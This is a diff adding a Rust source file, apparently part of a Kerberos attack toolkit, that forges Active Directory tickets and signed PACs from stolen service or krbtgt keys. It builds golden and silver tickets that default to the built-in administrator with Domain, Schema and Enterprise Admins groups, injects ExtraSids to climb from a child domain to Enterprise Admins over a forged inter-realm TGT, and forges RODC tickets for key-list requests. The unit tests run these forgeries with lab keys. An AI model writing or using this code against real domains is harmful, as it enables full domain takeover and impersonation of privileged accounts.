@@ -0,0 +1,322 @@
+//! Ticket forging
+//! Build tickets and their PAC from the long term key of the service
+//! Inter-realm TGT are forged using the trust key between realms
+
+use std::str::FromStr;
+use chrono::{Utc, Duration, DateTime};
+use asn1::{Tag, Integer, Application, GeneralString};
+use base::{PrincipalName, PrincipalNameType, KerberosTime, TicketFlags, TicketFlagsType};
+use encryption::{EncryptionKey, KeyUsage};
+use error::{KerlabResult, Error, KerlabErrorKind};
+use krbcred::KrbCred;
+use krbkdcrep::EncKDCRepPart;
+use ndr::{FileTime, Sid, GroupMembership, KerbSidAndAttributes};
+use pac::{PacType, PacStruct, KerbValidationInfo, PacClientInfo, PacSignatureData, LOGON_EXTRA_SIDS};
+use referral::krbtgt;
+use ticket::{Ticket, TicketBody, EncTicketPart, EncTicketPartBody, TransitedEncoding, TransitedType};
+
+/// Domain Users, Domain Admins, Schema Admins, Enterprise Admins, Group Policy Creator Owners
+pub const DEFAULT_GROUPS: [u32; 5] = [513, 512, 518, 519, 520];
+
+/// SE_GROUP_MANDATORY | SE_GROUP_ENABLED_BY_DEFAULT | SE_GROUP_ENABLED
+pub const SE_GROUP_DEFAULT: u32 = 0x00000007;
+
+/// USER_NORMAL_ACCOUNT | USER_DONT_EXPIRE_PASSWORD
+const USER_ACCOUNT_CONTROL: u32 = 0x00000210;
+
+/// Flags of forged tickets
+const TICKET_FLAGS: [TicketFlagsType; 4] = [
+    TicketFlagsType::Forwardable,
+    TicketFlagsType::Renewable,
+    TicketFlagsType::Initial,
+    TicketFlagsType::PreAuthent
+];
+
+/// Forged ticket description
+pub struct Forge {
+    realm: String,
+    username: String,
+    domain_sid: Sid,
+    user_id: u32,
+    groups: Vec<u32>,
+    extra_sids: Vec<Sid>,
+    lifetime: Duration,
+    kvno: Option<Integer>,
+    rodc: Option<u16>
+}
+
+impl Forge {
+    /// Forge tickets for a user of the realm
+    /// By default the user is the builtin administrator
+    pub fn new(realm: &str, username: &str, domain_sid: Sid) -> Self {
+        Self {
+            realm: realm.to_uppercase(),
+            username: username.to_string(),
+            domain_sid,
+            user_id: 500,
+            groups: DEFAULT_GROUPS.to_vec(),
+            extra_sids: vec![],
+            lifetime: Duration::hours(10),
+            kvno: None,
+            rodc: None
+        }
+    }
+
+    pub fn with_user_id(mut self, user_id: u32) -> Self {
+        self.user_id = user_id;
+        self
+    }
+
+    /// Relative id of the groups into the domain of the user
+    pub fn with_groups(mut self, groups: &[u32]) -> Self {
+        self.groups = groups.to_vec();
+        self
+    }
+
+    /// SID added to the ExtraSids field of the PAC
+    /// Use to impersonate a group of another domain (SID history)
+    pub fn with_extra_sid(mut self, sid: Sid) -> Self {
+        self.extra_sids.push(sid);
+        self
+    }
+
+    pub fn with_lifetime(mut self, lifetime: Duration) -> Self {
+        self.lifetime = lifetime;
+        self
+    }
+
+    /// Key version number of the key that encrypt the ticket
+    pub fn with_kvno(mut self, kvno: Integer) -> Self {
+        self.kvno = Some(kvno);
+        self
+    }
+
+    /// Forge the ticket as a Read Only Domain Controller
+    /// kdc_key is then the key of the krbtgt_<number> account
+    /// A TGT issued by a RODC can be used with a KERB-KEY-LIST-REQ
+    pub fn with_rodc(mut self, number: u16) -> Self {
+        self.rodc = Some(number);
+        self
+    }
+
+    /// The key version number of a RODC ticket
+    /// embeds the RODC number into the high 16 bits
+    fn ticket_kvno(&self) -> Option<Integer> {
+        match self.rodc {
+            Some(number) => Some(((number as Integer) << 16) | (self.kvno.unwrap_or(1) & 0xFFFF)),
+            None => self.kvno
+        }
+    }
+
+    /// NetBIOS name of the domain is the first part of the realm
+    fn netbios_name(&self) -> String {
+        self.realm.split('.').next().unwrap_or_default().to_string()
+    }
+
+    /// Logon information of the forged user
+    pub fn validation_info(&self, logon_time: DateTime<Utc>) -> KerbValidationInfo {
+        let mut result = KerbValidationInfo {
+            logon_time: FileTime::new(logon_time),
+            logoff_time: FileTime::never(),
+            kick_off_time: FileTime::never(),
+            password_last_set: FileTime::new(logon_time),
+            password_can_change: FileTime::new(logon_time),
+            password_must_change: FileTime::never(),
+            effective_name: self.username.clone(),
+            user_id: self.user_id,
+            primary_group_id: 513,
+            group_ids: self.groups.iter().map(|relative_id| GroupMembership {
+                relative_id: *relative_id,
+                attributes: SE_GROUP_DEFAULT
+            }).collect(),
+            user_session_key: vec![0; 16],
+            logon_domain_name: self.netbios_name(),
+            logon_domain_id: Some(self.domain_sid.clone()),
+            user_account_control: USER_ACCOUNT_CONTROL,
+            extra_sids: self.extra_sids.iter().map(|sid| KerbSidAndAttributes {
+                sid: sid.clone(),
+                attributes: SE_GROUP_DEFAULT
+            }).collect(),
+            ..Default::default()
+        };
+        if !result.extra_sids.is_empty() {
+            result.user_flags |= LOGON_EXTRA_SIDS;
+        }
+        result
+    }
+
+    /// Signed PAC of the forged user
+    pub fn pac(&self, authtime: DateTime<Utc>, server_key: &EncryptionKey, kdc_key: &EncryptionKey) -> KerlabResult<PacType> {
+        let mut kdc_signature = PacSignatureData::new(kdc_key)?;
+        kdc_signature.rodcidentifier = self.rodc;
+
+        let mut pac = PacType::new(vec![
+            PacStruct::KerbValidationInfo(self.validation_info(authtime)),
+            PacStruct::PacClientInfo(PacClientInfo::new(FileTime::new(authtime), &self.username)),
+            PacStruct::ServerChecksum(PacSignatureData::new(server_key)?),
+            PacStruct::KDCChecksum(kdc_signature)
+        ]);
+        pac.sign(server_key, kdc_key)?;
+        Ok(pac)
+    }
+
+    /// Forge a ticket for a service
+    ///
+    /// service_key encrypts the ticket and signs the PAC,
+    /// kdc_key is the krbtgt key use for the KDC signature of the PAC
+    pub fn ticket(&self, sname: PrincipalName, service_key: &EncryptionKey, kdc_key: &EncryptionKey) -> KerlabResult<KrbCred> {
+        let now = Utc::now();
+        let session_key = EncryptionKey::random(service_key.keytype.inner)?;
+        let flags = TicketFlags::new(&TICKET_FLAGS);
+        let realm = GeneralString::from_str(&self.realm)?;
+        let cname = PrincipalName::new(
+            PrincipalNameType::NtPrincipal,
+            vec![GeneralString::from_str(&self.username)?]
+        );
+
+        let pac = self.pac(now, service_key, kdc_key)?;
+
+        let enc_ticket_part = EncTicketPart {
+            inner: EncTicketPartBody {
+                flags: Tag::new(flags),
+                key: Tag::new(session_key.clone()),
+                crealm: Tag::new(realm.clone()),
+                cname: Tag::new(cname.clone()),
+                transited: Tag::new(TransitedEncoding {
+                    tr_type: Tag::new(TransitedType::DomainX500Compress as Integer),
+                    contents: Tag::new(vec![])
+                }),
+                authtime: Tag::new(KerberosTime::new(now)),
+                starttime: Some(Tag::new(KerberosTime::new(now))),
+                endtime: Tag::new(KerberosTime::new(now + self.lifetime)),
+                renew_till: Some(Tag::new(KerberosTime::new(now + Duration::days(7)))),
+                caddr: None,
+                authorization_data: Some(Tag::new(pac.to_authorization_data()?))
+            }
+        };
+
+        let mut enc_part = service_key.encrypt(KeyUsage::KeyUsageAsRepTicket, &enc_ticket_part)?;
+        enc_part.kvno = self.ticket_kvno().map(Tag::new);
+
+        let ticket: Ticket = Application {
+            inner: TicketBody {
+                tkt_vno: Tag::new(5),
+                realm: Tag::new(realm.clone()),
+                sname: Tag::new(sname.clone()),
+                enc_part: Tag::new(enc_part)
+            }
+        };
+
+        KrbCred::new(cname, ticket, EncKDCRepPart {
+            key: Tag::new(session_key),
+            last_req: Tag::new(vec![]),
+            nonce: Tag::new(0),
+            key_expiration: None,
+            flags: Tag::new(flags),
+            authtime: enc_ticket_part.authtime.clone(),
+            starttime: enc_ticket_part.starttime.clone(),
+            endtime: enc_ticket_part.endtime.clone(),
+            renew_till: enc_ticket_part.renew_till.clone(),
+            srealm: Tag::new(realm),
+            sname: Tag::new(sname),
+            caddr: None,
+            encrypted_pa_data: None
+        })
+    }
+
+    /// Forge a referral TGT krbtgt/TARGET@SOURCE
+    ///
+    /// The ticket and both PAC signatures use the inter-realm trust key
+    pub fn inter_realm_tgt(&self, target_realm: &str, trust_key: &EncryptionKey) -> KerlabResult<KrbCred> {
+        if target_realm.eq_ignore_ascii_case(&self.realm) {
+            return Err(Error::new(KerlabErrorKind::Unknown, "Target realm must be different from the source realm"))
+        }
+        self.ticket(krbtgt(&target_realm.to_uppercase())?, trust_key, trust_key)
+    }
+}
+
+#[cfg(test)]
+mod test {
+    use super::*;
+    use acceptor::find_pac;
+    use asn1::from_ber;
+    use encryption::EType;
+    use krbcred::EncKrbCredPart;
+
+    /// Inter-realm TGT must carry ExtraSids and a valid PAC signature
+    #[test]
+    fn test_inter_realm_tgt() {
+        let child = Sid::from_str("S-1-5-21-1111-2222-3333").unwrap();
+        let enterprise_admins = Sid::from_str("S-1-5-21-4444-5555-6666").unwrap().with_rid(519);
+        let trust_key = EncryptionKey::new(EType::Aes256CtsHmacSha196, vec![7; 32]);
+
+        let credentials = Forge::new("child.lab.local", "administrator", child.clone())
+            .with_extra_sid(enterprise_admins.clone())
+            .inter_realm_tgt("lab.local", &trust_key)
+            .unwrap();
+
+        let ticket = &credentials.tickets[0];
+        assert_eq!(ticket.realm.as_str(), "CHILD.LAB.LOCAL");
+        assert_eq!(ticket.sname.name(), "krbtgt/LAB.LOCAL");
+
+        let enc_part = trust_key.decrypt::<EncTicketPart>(KeyUsage::KeyUsageAsRepTicket, &ticket.enc_part).unwrap();
+        let pac = find_pac(&enc_part).unwrap().unwrap();
+
+        let mut server_signature = vec![];
+        for buffer in &pac.buffers {
+            match buffer {
+                PacStruct::KerbValidationInfo(e) => {
+                    assert_eq!(e.effective_name, "administrator");
+                    assert_eq!(e.logon_domain_name, "CHILD");
+                    assert_eq!(e.logon_domain_id, Some(child.clone()));
+                    assert_eq!(e.group_ids.len(), DEFAULT_GROUPS.len());
+                    assert_eq!(e.extra_sids[0].sid, enterprise_admins);
+                    assert_eq!(e.user_flags & LOGON_EXTRA_SIDS, LOGON_EXTRA_SIDS);
+                },
+                PacStruct::ServerChecksum(e) => server_signature = e.signature.clone(),
+                _ => ()
+            }
+        }
+
+        // signature computed again over the parsed PAC must match
+        let mut resigned = PacType::new(pac.buffers);
+        resigned.sign(&trust_key, &trust_key).unwrap();
+        for buffer in &resigned.buffers {
+            if let PacStruct::ServerChecksum(e) = buffer {
+                assert_eq!(e.signature, server_signature);
+            }
+        }
+
+        // session key is stored into the KRB-CRED
+        let mut cred_part = EncKrbCredPart::default();
+        from_ber(&mut cred_part, &credentials.enc_part.cipher).unwrap();
+        assert!(cred_part.ticket_info[0].key.inner == enc_part.key.inner);
+    }
+
+    /// RODC number is carried by the kvno and the KDC signature
+    #[test]
+    fn test_rodc_ticket() {
+        let domain_sid = Sid::from_str("S-1-5-21-1111-2222-3333").unwrap();
+        let service_key = EncryptionKey::new(EType::Aes256CtsHmacSha196, vec![1; 32]);
+        let rodc_key = EncryptionKey::new(EType::Aes256CtsHmacSha196, vec![2; 32]);
+
+        let credentials = Forge::new("lab.local", "administrator", domain_sid)
+            .with_rodc(8245)
+            .ticket(krbtgt("LAB.LOCAL").unwrap(), &service_key, &rodc_key)
+            .unwrap();
+
+        let ticket = &credentials.tickets[0];
+        assert_eq!(ticket.enc_part.kvno.as_ref().unwrap().inner, (8245 << 16) | 1);
+
+        let enc_part = service_key.decrypt::<EncTicketPart>(KeyUsage::KeyUsageAsRepTicket, &ticket.enc_part).unwrap();
+        let pac = find_pac(&enc_part).unwrap().unwrap();
+        let mut found = false;
+        for buffer in &pac.buffers {
+            if let PacStruct::KDCChecksum(e) = buffer {
+                assert_eq!(e.rodcidentifier, Some(8245));
+                found = true;
+            }
+        }
+        assert!(found);
+    }
+}